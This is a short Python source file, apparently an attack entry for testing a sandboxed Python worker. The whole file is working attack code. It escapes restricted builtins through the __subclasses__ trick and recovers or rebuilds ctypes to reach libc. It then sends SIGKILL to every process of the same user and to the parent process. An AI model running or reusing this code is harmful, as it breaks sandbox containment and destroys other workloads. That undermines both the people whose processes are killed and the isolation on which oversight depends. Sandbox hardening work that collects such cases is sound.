"""kill(-1, SIGKILL) and the parent: every process of the same user, other runtimes' workers included."""


class Killer:
    name = "signals_kill_everything"

    def libc(self):
        for cls in ().__class__.__base__.__subclasses__():
            if cls.__name__ == "_wrap_close":
                sys = cls.__init__.__globals__["__builtins__"]["__import__"]("sys")
                for module in list(sys.modules.values()):
                    ctypes = module.__dict__.get("ctypes")
                    if ctypes is not None and hasattr(ctypes, "CDLL"):
                        return ctypes, ctypes.CDLL(None, use_errno=True)
                return self.rebuilt_libc(sys, cls.__init__.__globals__["__builtins__"]["__import__"]("_imp"))

    def rebuilt_libc(self, sys, imp):
        # No ctypes left in the worker (issue 23): rebuild _ctypes from the import cache, which needs no file.
        folder = [path for path in sys.path if path.endswith("lib-dynload")][0]
        spec = sys.modules["_frozen_importlib"].ModuleSpec("_ctypes", None, origin=folder + "/_ctypes" + imp.extension_suffixes()[0])
        raw = imp.create_dynamic(spec)

        class Int(raw._SimpleCData):
            _type_ = "i"

        class Function(raw.CFuncPtr):
            _flags_ = raw.FUNCFLAG_CDECL | raw.FUNCFLAG_USE_ERRNO
            _restype_ = Int

        class Library:
            _handle = raw.dlopen(None, 2)

            def __getattr__(self, name):
                return Function((name, self))

        class Shim:
            get_errno = staticmethod(raw.get_errno)

            @staticmethod
            def create_string_buffer(data, size):
                return data

        return Shim, Library()

    def plan(self, ctx):
        ctypes, libc = self.libc()
        return {"guidance": f"all={libc.kill(-1, 9)} parent={libc.kill(libc.getppid(), 9)} errno={ctypes.get_errno()}"}
